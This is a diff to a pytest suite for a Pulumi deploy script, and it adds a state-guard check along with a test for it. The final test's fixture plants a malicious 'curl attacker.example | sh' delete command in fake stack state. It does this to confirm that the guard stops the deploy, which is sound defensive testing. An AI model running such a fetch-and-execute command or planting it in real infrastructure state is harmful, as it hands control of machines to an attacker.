@@ -3,6 +3,7 @@ CLI against moto's server (through a wrapper that logs each call)."""
 
 from __future__ import annotations
 
+import json
 import shutil
 import stat
 import subprocess
@@ -23,6 +24,7 @@ case "$1 ${2:-}" in
   "stack select") [[ -n "${FAKE_STACK_EXISTS:-}" ]] ;;
   "stack output") [[ -n "${FAKE_IMAGE_URI:-}" ]] && printf '%s\\n' "$FAKE_IMAGE_URI" ;;
   "config get") [[ -n "${FAKE_REGION:-}" ]] && printf '%s\\n' "$FAKE_REGION" ;;
+  "stack export") cat "${FAKE_EXPORT:-$FAKE_EMPTY_EXPORT}" ;;
   *) ;;
 esac
 """
@@ -40,7 +42,9 @@ GH = """echo "gh $*" >> "$FAKE_LOG"
 """
 # `python3 -m venv DIR` makes DIR/bin/python a logging stand-in, so no package is installed by the tests;
 # `python3 -m infra.project` runs the real stack-name rule.
-PYTHON3 = f"""if [[ "$1 $2" == "-m infra.project" ]]; then exec {sys.executable} "$@"; fi
+PYTHON3 = f"""if [[ "$1 $2" == "-m infra.project" || "$1 $2" == "-m scripts.state_guard" ]]; then
+  exec {sys.executable} "$@"
+fi
 echo "python3 $*" >> "$FAKE_LOG"
 if [[ "$1 $2" == "-m venv" ]]; then
   mkdir -p "$3/bin"
@@ -63,12 +67,19 @@ def world(tmp_path):
         write_tool(bin_dir, name, body)
     log = tmp_path / "calls.log"
     log.touch()
+    empty = tmp_path / "empty-export.json"  # `pulumi stack export` of a stack without resources
+    empty.write_text(json.dumps({"version": 3, "deployment": {"manifest": {"time": "2026-12-04T00:00:00Z"}}}))
     endpoint = reset_moto()
 
     def run(*args: str, **env: str) -> tuple[subprocess.CompletedProcess, list[str]]:
         result = subprocess.run(
             ["bash", str(repo / "scripts" / "deploy.sh"), *args],
-            env=cli_env(tool_env(bin_dir, FAKE_LOG=str(log), FAKE_REGION="eu-west-1", **env), endpoint),
+            env=cli_env(
+                tool_env(
+                    bin_dir, FAKE_LOG=str(log), FAKE_REGION="eu-west-1", FAKE_EMPTY_EXPORT=str(empty), **env
+                ),
+                endpoint,
+            ),
             capture_output=True,
             text=True,
             timeout=60,
@@ -133,6 +144,7 @@ def test_first_deploy_checks_credentials_then_creates_file_state_a_private_passp
         "pulumi install",
         "pulumi config get aws:region --stack dev",
         "pulumi stack output imageUri --stack dev",
+        "pulumi stack export --stack dev",  # the state guard, right before the engine runs
         "pulumi up --yes --stack dev --non-interactive --policy-pack policy",
     ]
 
@@ -279,3 +291,32 @@ def test_destroy_logs_docker_in_when_docker_is_there(world):
     registry = "123456789012.dkr.ecr.eu-west-1.amazonaws.com"
     destroy = calls.index(next(line for line in calls if line.startswith("pulumi destroy ")))
     assert calls.index(f"docker login --username AWS --password-stdin {registry}") < destroy
+
+
+@pytest.mark.parametrize("action", ["up", "destroy"])
+def test_a_state_with_a_command_the_program_never_declared_stops_before_the_engine(world, tmp_path, action):
+    # a `delete` command planted in the state by whoever could write it (scripts/state_guard.py)
+    planted = tmp_path / "planted.json"
+    planted.write_text(
+        json.dumps(
+            {
+                "version": 3,
+                "deployment": {
+                    "resources": [
+                        {
+                            "urn": f"urn:pulumi:dev::{PROJECT}::command:local:Command::x",
+                            "custom": True,
+                            "type": "command:local:Command",
+                            "outputs": {"create": "true", "delete": "curl attacker.example | sh"},
+                        }
+                    ]
+                },
+            }
+        )
+    )
+    repo, _, run = world
+    (repo / ".pulumi-state").mkdir()  # the stack was deployed from this checkout
+    result, calls = run(action, "dev", FAKE_STACK_EXISTS="1", FAKE_EXPORT=str(planted))
+    assert result.returncode == 1, result.stderr
+    assert "carry a `delete` command" in result.stderr
+    assert not [call for call in pulumi_calls(calls) if call.startswith(f"pulumi {action} ")]
